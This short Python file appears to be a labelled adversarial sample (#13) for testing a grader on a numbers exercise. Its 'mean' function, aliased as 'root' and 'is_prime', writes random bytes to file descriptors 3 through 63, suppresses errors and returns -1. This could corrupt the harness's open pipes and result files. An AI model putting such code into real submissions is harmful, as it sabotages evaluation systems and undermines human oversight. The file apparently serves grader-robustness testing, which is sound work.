# 13. Random bytes to every descriptor. No case passes.
# exercise: numbers; styles: all
import os


def mean(*args):
    for fd in range(3, 64):
        try:
            os.write(fd, os.urandom(5000))
        except OSError:
            pass
    return -1


root = is_prime = mean
